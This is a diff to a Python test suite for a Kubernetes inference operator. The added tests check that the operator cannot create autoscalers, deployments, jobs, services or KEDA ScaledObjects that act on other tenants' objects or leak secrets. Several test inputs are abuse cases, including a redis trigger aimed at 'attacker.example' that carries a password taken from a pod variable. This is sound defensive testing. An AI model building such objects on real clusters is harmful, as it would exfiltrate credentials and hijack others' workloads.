@@ -26,16 +26,21 @@ from inference_operator.manifest import (
     CLAIM,
     CONFIG_MAP,
     DEPLOYMENT,
+    HORIZONTAL_POD_AUTOSCALER,
     JOB,
     KIND,
     OPTIONAL_KINDS,
     POD,
+    SCALED_OBJECT,
+    SERVICE,
     Kind,
     Manifest,
 )
 from inference_operator.objects.child import RETAIN_ANNOTATION
 from inference_operator.objects.names import MANAGED_BY_LABEL, labels
 from tests.chart.helm import Helm
+from tests.testing.definitions import await_established
+from tests.testing.keda import scaled_object_crd
 from tests.testing.operated_cluster import RELEASE, SYSTEM, new_workspace
 from tests.testing.operator_process import OperatorProcess
 from tests.testing.requests_of import STRATEGIC, Answer, RequestsOf
@@ -93,15 +98,15 @@ CONTENT: dict[str, Manifest] = {
     "Deployment": {
         "spec": {
             "replicas": 0,
-            "selector": {"matchLabels": {"app": "theirs"}},
-            "template": {"metadata": {"labels": {"app": "theirs"}}, "spec": pod()},
+            "selector": {"matchLabels": labels("qwen", "engine")},
+            "template": {"metadata": {"labels": labels("qwen", "engine")}, "spec": pod()},
         }
     },
     "PodDisruptionBudget": {"spec": {"maxUnavailable": 1, "selector": {"matchLabels": {"app": "theirs"}}}},
     "Job": {"spec": {"suspend": True, "template": {"spec": {**pod(), "restartPolicy": "Never"}}}},
     "Ingress": {"spec": {"defaultBackend": {"service": {"name": "theirs", "port": {"number": 80}}}}},
     "HorizontalPodAutoscaler": {
-        "spec": {"maxReplicas": 2, "scaleTargetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "theirs"}}
+        "spec": {"maxReplicas": 2, "scaleTargetRef": {"apiVersion": API_VERSION, "kind": KIND, "name": "qwen"}}
     },
     "NetworkPolicy": {"spec": {"podSelector": {}, "policyTypes": ["Ingress"]}},
     "HTTPRoute": {"spec": {}},
@@ -456,6 +461,57 @@ def test_users_see_why_an_inference_deployment_in_a_namespace_of_kubernetes_itse
     public.kubectl("delete", "infd", "misplaced")
 
 
+def test_the_operator_may_make_no_object_by_which_a_controller_acts_on_objects_of_others(
+    thief: RequestsOf, victim: Workspace
+) -> None:
+    def refused(part: str, kind: Kind, spec: Manifest) -> bool:
+        content = CONTENT[kind.name]["spec"]
+        answer = thief.post(dry(kind, victim.namespace), child(kind, "stolen", {"spec": {**content, **spec}}))
+        return refused_by(part) in answer.message
+
+    theirs = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "theirs"}
+    assert refused("autoscalers", HORIZONTAL_POD_AUTOSCALER, {"scaleTargetRef": theirs})
+    other = {"apiVersion": API_VERSION, "kind": KIND, "name": "other"}
+    assert refused("autoscalers", HORIZONTAL_POD_AUTOSCALER, {"scaleTargetRef": other})
+    adopting = {"metadata": {"labels": {"app": "db"}}, "spec": pod()}
+    selecting = {"selector": {"matchLabels": {"app": "db"}}, "template": adopting}
+    assert refused("templates", DEPLOYMENT, selecting)
+    selected = {"manualSelector": True, "selector": {"matchLabels": {"app": "db"}}}
+    assert refused(
+        "templates", JOB, {**selected, "template": {**adopting, "spec": {**pod(), "restartPolicy": "Never"}}}
+    )
+    assert refused("services", SERVICE, {"externalIPs": ["192.0.2.1"]})
+    assert refused("services", SERVICE, {"type": "ExternalName", "externalName": "example.com"})
+
+
+def test_a_scaled_object_of_the_operator_reads_no_secret(
+    thief: RequestsOf, victim: Workspace, kubernetes: LocalCluster
+) -> None:
+    """KEDA sends what it resolves from a Secret or a variable of a pod to the address of the trigger."""
+    kubernetes.kubectl("create", "--filename", str(scaled_object_crd()))
+    await_established(kubernetes, "crd/scaledobjects.keda.sh")
+    target = {"apiVersion": API_VERSION, "kind": KIND, "name": "qwen"}
+    metadata = {"serverAddress": "http://prometheus.example:9090", "query": "up", "threshold": "1"}
+
+    def answer(trigger: Manifest, target: Manifest = target) -> Answer:
+        spec = {"spec": {"scaleTargetRef": target, "triggers": [trigger]}}
+        return thief.post(dry(SCALED_OBJECT, victim.namespace), child(SCALED_OBJECT, "stolen", spec))
+
+    usual = {"type": "prometheus", "metadata": metadata}
+    try:
+        eventually(lambda: answer(usual).accepted, seconds=60, what=lambda: answer(usual).message)
+        for trigger in (
+            {"type": "redis", "metadata": {"address": "attacker.example:6379", "passwordFromEnv": "PASSWORD"}},
+            {**usual, "metadata": {**metadata, "passwordFromEnv": "PASSWORD"}},
+            {**usual, "authenticationRef": {"name": "stolen", "kind": "ClusterTriggerAuthentication"}},
+        ):
+            assert refused_by("autoscalers") in answer(trigger).message
+        deployment = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "theirs"}
+        assert refused_by("autoscalers") in answer(usual, deployment).message
+    finally:
+        kubernetes.kubectl("delete", "crd", "scaledobjects.keda.sh")
+
+
 # Pods
 
 
@@ -468,6 +524,7 @@ def test_the_operator_may_change_labels_of_its_pods_and_nothing_else(thief: Requ
         {"metadata": {"labels": {MANAGED_BY_LABEL: None}}},
         {"metadata": {"labels": labels("other", "engine")}},
         {"metadata": {"ownerReferences": [{**OWNER, "uid": NOBODY}]}},
+        {"metadata": {"finalizers": ["example.com/kept"]}},
     ):
         answer = thief.patch(path, change, STRATEGIC)
         assert refused_by("pods") in answer.message
